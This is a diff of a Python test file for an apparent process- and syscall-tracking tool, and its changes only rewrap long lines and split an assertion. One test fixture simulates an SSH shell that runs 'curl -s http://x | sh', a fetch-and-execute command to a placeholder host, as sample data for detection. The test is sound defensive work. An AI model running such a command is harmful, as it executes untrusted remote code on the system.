@@ -61,25 +61,30 @@ def fork_ev(clk: Clock, parent: int, child: int, *, tid: int | None = None, comm
     return Event(t, EventType.FORK, 0, parent, parent, 0, 0, 77, 0, (tid or child, child, child * 1000, 0, 0, 0), comm)
 
 
-def exit_ev(clk: Clock, pid: int, *, tid: int | None = None, last: bool = True, status: int = 0, ns: int = 1000) -> Event:
+def exit_ev(clk: Clock, pid: int, *, tid: int | None = None, last: bool = True, status: int = 0,
+            ns: int = 1000) -> Event:  # fmt: skip
     return Event(clk.tick(ns), EventType.EXIT, 0, pid, tid or pid, 0, 0, 77, status, (int(last), 0, 0, 0, 0, 0), "x")
 
 
 def sc(clk: Clock, name: str, pid: int, ret: int, *args: int, strings: tuple[str, ...] = (), uid: int = 0, gid: int = 0,
        tid: int | None = None) -> Event:  # fmt: skip
     a = tuple(args) + (0,) * (6 - len(args))
-    return Event(clk.tick(), EventType.SYSCALL, BY_NAME[name].nr, pid, tid or pid, uid, gid, 77, ret, a, "x", strings=strings)
+    nr = BY_NAME[name].nr
+    return Event(clk.tick(), EventType.SYSCALL, nr, pid, tid or pid, uid, gid, 77, ret, a, "x", strings=strings)
 
 
 def shell_tree(clk: Clock, t: ProcessTable) -> None:
     """init(1) -> sshd(100) -> bash(200, session leader, tty) -> sh(300) -> curl(400)."""
-    t.apply(exec_ev(clk, 1, ["/sbin/init", "splash"], comm="systemd", ppid=0, sid=1, exepath="/usr/lib/systemd/systemd"))
+    t.apply(exec_ev(clk, 1, ["/sbin/init", "splash"], comm="systemd", ppid=0, sid=1,
+                    exepath="/usr/lib/systemd/systemd"))  # fmt: skip
     t.apply(fork_ev(clk, 1, 100))
     t.apply(exec_ev(clk, 100, ["/usr/sbin/sshd", "-D"], sid=100))
     t.apply(fork_ev(clk, 100, 200))
-    t.apply(exec_ev(clk, 200, ["-bash"], comm="bash", ppid=100, sid=200, tty=34816, cwd="/root", exepath="/usr/bin/bash"))
+    t.apply(exec_ev(clk, 200, ["-bash"], comm="bash", ppid=100, sid=200, tty=34816, cwd="/root",
+                    exepath="/usr/bin/bash"))  # fmt: skip
     t.apply(fork_ev(clk, 200, 300, comm="bash"))
-    t.apply(exec_ev(clk, 300, ["/bin/sh", "-c", "curl -s http://x | sh"], comm="sh", ppid=200, sid=200, exepath="/usr/bin/dash"))
+    t.apply(exec_ev(clk, 300, ["/bin/sh", "-c", "curl -s http://x | sh"], comm="sh", ppid=200, sid=200,
+                    exepath="/usr/bin/dash"))  # fmt: skip
     t.apply(fork_ev(clk, 300, 400, comm="sh"))
     t.apply(exec_ev(clk, 400, ["curl", "-s", "http://x"], ppid=300, sid=200, exepath="/usr/bin/curl"))
 
@@ -122,7 +127,8 @@ def test_exec_replaces_image_keeps_pid_parent_and_fds(clk):
     t.apply(sc(clk, "openat", 300, 4, 2**64 - 100, 0, 0, strings=("script.sh",)))
     t.apply(exec_ev(clk, 300, ["python3", "app.py"], ppid=200, sid=200, cwd="/opt/app", exepath="/usr/bin/python3.11"))
     p = t.get(300)
-    assert (p.name, p.exe, p.args, p.exepath, p.cwd) == ("python3", "python3", ("app.py",), "/usr/bin/python3.11", "/opt/app")
+    assert (p.name, p.exe, p.args) == ("python3", "python3", ("app.py",))
+    assert (p.exepath, p.cwd) == ("/usr/bin/python3.11", "/opt/app")
     assert p.ppid == 200 and t.parent(p).name == "bash"
     assert sorted(p.fds) == [4] and p.fds[4].name == "/script.sh"
 
